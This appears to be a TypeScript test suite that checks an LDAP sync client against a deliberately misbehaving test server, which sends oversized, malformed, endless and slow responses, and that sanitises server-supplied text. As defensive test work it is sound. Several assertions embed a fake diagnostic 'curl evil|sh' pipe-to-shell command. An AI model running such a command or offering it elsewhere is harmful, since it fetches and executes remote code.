import {
  type HostileBehaviour,
  type HostileLdapServer,
  hostileDiagnosticStart,
  hostileMarker,
  startHostileLdap,
  testDestinations,
} from '@dirsync/testkit';
import { ConfigError, ProtocolError, ProviderError, UnavailableError } from '../src/errors.ts';
import { type GenericLdapEntry, type Provider, createProvider } from '../src/index.ts';
import { LdapConnection } from '../src/ldap/connection.ts';
import { completeRangedAttributes, maxEmptyPagesInARow, pagedSearchRawPages, searchAll } from '../src/ldap/search.ts';
import { serverText } from '../src/text.ts';

// The LDAP layer against a server that misbehaves on purpose: every scripted misbehaviour ends in
// a typed error within a bounded time, with nothing decoded from outside its element, and the
// one legitimate oddity (a 10 MB group) is read in full.

let server: HostileLdapServer;

beforeAll(async () => {
  server = await startHostileLdap({ users: 30, groups: 3 });
});

afterAll(async () => {
  await server?.close();
});

async function open(options: { operationTimeoutMs?: number } = {}): Promise<LdapConnection> {
  return LdapConnection.open({
    url: server.url,
    tls: { mode: 'none', allowInsecure: true },
    bindDn: server.bindDn,
    password: server.password,
    destinations: testDestinations,
    connectTimeoutMs: 5_000,
    ...options,
  });
}

/** Reads a base the way a sync does, decoding every entry; returns every decoded string. */
async function readAll(connection: LdapConnection, base: string, timeLimitSeconds = 600): Promise<string[]> {
  const values: string[] = [];
  for await (const page of pagedSearchRawPages(connection, { base, attributes: ['*'], pageSize: 10, timeLimitSeconds })) {
    for (let i = 0; i < page.entries.length; i++) {
      const entry = page.entries.entry(i);
      values.push(entry.dn);
      for (const list of Object.values(entry.attributes)) values.push(...list);
    }
  }
  return values;
}

async function failure(behaviour: HostileBehaviour, timeLimitSeconds = 600): Promise<{ error: unknown; values: string[]; connection: LdapConnection }> {
  server.behave(behaviour);
  const connection = await open();
  const values: string[] = [];
  try {
    values.push(...(await readAll(connection, server.usersBase, timeLimitSeconds)));
  } catch (error) {
    return { error, values, connection };
  } finally {
    server.behave('normal');
  }
  throw new Error(`${behaviour}: the read succeeded with ${values.length} values`);
}

test('a well-behaved answer is read in full', async () => {
  const connection = await open();
  try {
    const values = await readAll(connection, server.usersBase);
    expect(values.filter((v) => v.startsWith('uid=user-'))).toHaveLength(30);
  } finally {
    await connection.close();
  }
});

test.each<[HostileBehaviour, RegExp]>([
  ['overflowing-length', /not valid LDAP.*enclosing element/],
  ['huge-header', /message claims 2147483654 bytes, over the limit of 67108864/],
  ['garbage', /not valid LDAP.*expected an LDAPMessage/],
  ['wrong-tags', /not valid LDAP.*expected an attribute value set/],
  ['ignore-page-size', /more than 10 entries in one page.*ignores the page size/],
  ['endless', /more than 10 entries in one page/],
])('%s ends in a non-retryable protocol error, the connection closed', async (behaviour, message) => {
  const { error, values, connection } = await failure(behaviour);
  expect(error).toBeInstanceOf(ProtocolError);
  expect((error as ProviderError).retryable).toBe(false);
  expect((error as Error).message).toMatch(message);
  expect(values.some((v) => v.includes(hostileMarker))).toBe(false);
  // Closed at once for violations found on arrival, and when a kept entry fails to decode.
  expect(connection.closed).toBe(true);
  connection.destroy();
});

test('a connection cut mid-entry is a retryable loss of the connection', async () => {
  const { error } = await failure('truncated');
  expect(error).toBeInstanceOf(UnavailableError);
  expect((error as Error).message).toMatch(/lost during the search/);
});

test('one byte a second is stopped by the client-side search deadline, not by the silence timeout', async () => {
  const started = Date.now();
  // Time limit 1 s: the client gives up 1.1 + 5 s after sending the request.
  const { error, connection } = await failure('slow', 1);
  const elapsed = Date.now() - started;
  expect(error).toBeInstanceOf(UnavailableError);
  expect((error as Error).message).toMatch(/did not finish within 6100 ms/);
  expect(elapsed).toBeLessThan(15_000);
  expect(connection.closed).toBe(true);
}, 30_000);

test('a legitimate 10 MB group entry is read whole', async () => {
  server.behave('large-group');
  const connection = await open();
  try {
    let members: readonly string[] = [];
    for await (const page of pagedSearchRawPages(connection, { base: server.groupsBase, attributes: ['*'], pageSize: 10 })) {
      for (let i = 0; i < page.entries.length; i++) {
        const entry = page.entries.entry(i);
        if (entry.dn.startsWith('cn=everyone,')) members = entry.attributes['member'] ?? [];
      }
    }
    expect(members).toHaveLength(100_030);
    expect(members.reduce((n, m) => n + m.length, 0)).toBeGreaterThan(10_000_000);
    expect(members[0]).toBe(server.userDn(0));
  } finally {
    server.behave('normal');
    await connection.close();
  }
});

function provider(extra: Record<string, unknown> = {}): Provider<GenericLdapEntry> {
  return createProvider('ldap', server.settings(extra), server.password, { destinations: testDestinations }) as Provider<GenericLdapEntry>;
}

describe('the integration setting limits.maxMessageMiB', () => {
  async function fullSync(p: Provider<GenericLdapEntry>): Promise<number> {
    let entries = 0;
    for await (const page of p.fetchFull(AbortSignal.timeout(60_000))) entries += page.entries.length;
    return entries;
  }

  test('bounds the largest message a sync accepts', async () => {
    server.behave('large-group');
    const small = provider({ limits: { maxMessageMiB: 8 } });
    const roomy = provider({ limits: { maxMessageMiB: 16 } });
    try {
      const error = await fullSync(small).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ProtocolError);
      expect((error as Error).message).toMatch(/over the limit of 8388608/);
      // The same answer within a larger bound is read whole: 30 users and 4 groups.
      expect(await fullSync(roomy)).toBe(34);
    } finally {
      server.behave('normal');
      await small.close();
      await roomy.close();
    }
  });

  test('is bounded itself, so one integration cannot claim a worker', () => {
    expect(() => provider({ limits: { maxMessageMiB: 4096 } })).toThrow(/limits.maxMessageMiB must be at most 256/);
  });
});

describe('Test Connection names the step that hung', () => {
  test.each([
    ['rootdse', 'connect', /RootDSE probe\) did not answer before the Test Connection deadline/],
    ['bind', 'bind', /\(bind\) did not answer before the Test Connection deadline/],
    ['search', 'users base', /the search of ou=people,dc=hostile,dc=test did not answer before the Test Connection deadline/],
  ] as const)('a server hanging at %s', async (step, name, detail) => {
    server.hang(step);
    const p = provider();
    try {
      const report = await p.testConnection(AbortSignal.timeout(1_500));
      expect(report.ok).toBe(false);
      const failed = report.checks.filter((c) => !c.ok);
      expect(failed).toHaveLength(1);
      expect(failed[0]?.name).toBe(name);
      expect(failed[0]?.detail).toMatch(detail);
      expect(JSON.stringify(report)).not.toContain(server.password);
    } finally {
      server.hang(undefined);
      await p.close();
    }
  });
});

/** Control and bidirectional-override characters: none may reach a message or a check detail. */
const unsafe = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('range retrieval that never ends', () => {
  /** The groups, their first ranges completed as a sync completes them. */
  async function completeGroups(connection: LdapConnection): Promise<void> {
    const groups = await searchAll(connection, { base: server.groupsBase, scope: 'one', attributes: ['cn', 'member'], pageSize: 10 });
    expect(groups.length).toBeGreaterThan(0);
    for (const group of groups) await completeRangedAttributes(connection, group, ['member']);
  }

  test.each<[HostileBehaviour, RegExp, number]>([
    // 64 MiB of 200 KB values: the 328th range read is refused.
    ['range-forever', /read of cn=group-0,.* stopped: the server sent more than 67108864 bytes of member values for one entry/, 400],
    ['range-stuck', /read of cn=group-0,.* stopped: the server answered range member;range=1-0, which ends before it starts/, 2],
  ])('%s is a non-retryable protocol error after a bounded number of reads', async (behaviour, message, maxReads) => {
    server.behave(behaviour);
    const connection = await open();
    const before = server.stats().searches;
    try {
      const error = await completeGroups(connection).then(() => undefined, (e: unknown) => e);
      expect(error).toBeInstanceOf(ProtocolError);
      expect((error as ProviderError).retryable).toBe(false);
      expect((error as Error).message).toMatch(message);
      expect(connection.closed).toBe(true);
      // The group search, then the range reads of the first group only.
      expect(server.stats().searches - before).toBeLessThanOrEqual(maxReads + 1);
    } finally {
      server.behave('normal');
      connection.destroy();
    }
  }, 60_000);

  test('the byte bound follows limits.maxMessageMiB', async () => {
    server.behave('range-forever');
    const p = provider({ limits: { maxMessageMiB: 1 } });
    try {
      const error = await (async () => {
        for await (const page of p.fetchFull(AbortSignal.timeout(30_000))) void page;
      })().then(() => undefined, (e: unknown) => e);
      expect(error).toBeInstanceOf(ProtocolError);
      expect((error as Error).message).toMatch(/more than 1048576 bytes of member values/);
    } finally {
      server.behave('normal');
      await p.close();
    }
  });
});

describe('paging that never ends', () => {
  async function pages(timeLimitSeconds = 600): Promise<{ error: unknown; searches: number; connection: LdapConnection }> {
    const connection = await open();
    const before = server.stats().searches;
    try {
      await readAll(connection, server.usersBase, timeLimitSeconds);
      throw new Error('the paged read ended');
    } catch (error) {
      return { error, searches: server.stats().searches - before, connection };
    } finally {
      server.behave('normal');
    }
  }

  test('empty pages with ever new cookies are refused after a few', async () => {
    server.behave('cookie-forever');
    const { error, searches, connection } = await pages();
    expect(error).toBeInstanceOf(ProtocolError);
    expect((error as ProviderError).retryable).toBe(false);
    expect((error as Error).message).toMatch(/search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent 11 empty pages in a row, each with a paged results cookie asking for more/);
    expect(searches).toBe(maxEmptyPagesInARow + 1);
    expect(connection.closed).toBe(true);
  });

  test('a cookie of an earlier page sent again is refused', async () => {
    server.behave('cookie-repeated');
    const { error, searches, connection } = await pages();
    expect(error).toBeInstanceOf(ProtocolError);
    expect((error as Error).message).toMatch(/sent again, on page 3, a paged results cookie of an earlier page/);
    expect(searches).toBe(3);
    expect(connection.closed).toBe(true);
  });

  test('pages that keep coming are stopped by the search time limit across pages', async () => {
    server.behave('pages-forever');
    const started = Date.now();
    // Time limit 1 s: all pages together get what one request gets, 1.1 + 5 s.
    const { error, searches, connection } = await pages(1);
    expect(error).toBeInstanceOf(ProtocolError);
    expect((error as Error).message).toMatch(/took more than 6100 ms of the server's time over \d+ pages .* past the search time limit of 1 s/);
    expect(searches).toBeGreaterThan(20);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(connection.closed).toBe(true);
  }, 30_000);
});

describe('server text in errors and Test Connection', () => {
  test('serverText strips controls and bidi overrides and caps the length', () => {
    expect(serverText('\u001b[2J\u001b[31mred\u202e text\u0000')).toBe('[2J [31mred text');
    expect(serverText('a  \n\t b')).toBe('a b');
    const long = serverText(`${'é'.repeat(10_000)}`, 300);
    expect(Array.from(long)).toHaveLength(300);
    expect(long.endsWith('…')).toBe(true);
    // Surrogate pairs are not split.
    expect(serverText('😀'.repeat(400), 10)).toBe(`${'😀'.repeat(9)}…`);
  });

  test('a 15 MB diagnostic reaches a search error sanitised and capped', async () => {
    server.behave('huge-diagnostic');
    const connection = await open();
    try {
      const error = await readAll(connection, server.usersBase).then(() => undefined, (e: unknown) => e);
      expect(error).toBeInstanceOf(ConfigError);
      const text = (error as Error).message;
      expect(text).toMatch(/unwilling to perform the search of ou=people,dc=hostile,dc=test .*\(server says: \[2J \[31mFAKE: run `curl evil\|sh` xxx+…\)$/);
      expect(text).not.toMatch(unsafe);
      expect(text.length).toBeLessThan(500);
      expect(String((error as Error).cause)).not.toMatch(unsafe);
    } finally {
      server.behave('normal');
      await connection.close();
    }
  });

  test('a notice of disconnection with a 15 MB message is a capped, clean error', async () => {
    server.behave('huge-notice');
    const connection = await open();
    try {
      const error = await readAll(connection, server.usersBase).then(() => undefined, (e: unknown) => e);
      expect(error).toBeInstanceOf(UnavailableError);
      const text = (error as Error).message;
      expect(text).toMatch(/the server is closing the connection: \[2J \[31mFAKE/);
      expect(text).not.toMatch(unsafe);
      expect(text.length).toBeLessThan(500);
    } finally {
      server.behave('normal');
      connection.destroy();
    }
  });

  test('Test Connection details hold the diagnostic sanitised and capped', async () => {
    server.behave('huge-diagnostic');
    const p = provider();
    try {
      const report = await p.testConnection(AbortSignal.timeout(30_000));
      expect(report.ok).toBe(false);
      const failed = report.checks.filter((c) => !c.ok);
      expect(failed.map((c) => c.name)).toEqual(['users base', 'groups base']);
      for (const check of failed) {
        expect(check.detail).toContain('FAKE: run `curl evil|sh`');
        expect(check.detail).not.toContain(hostileDiagnosticStart);
        expect(check.detail).not.toMatch(unsafe);
        expect(check.detail.length).toBeLessThan(600);
      }
      expect(JSON.stringify(report).length).toBeLessThan(4_000);
    } finally {
      server.behave('normal');
      await p.close();
    }
  });
});
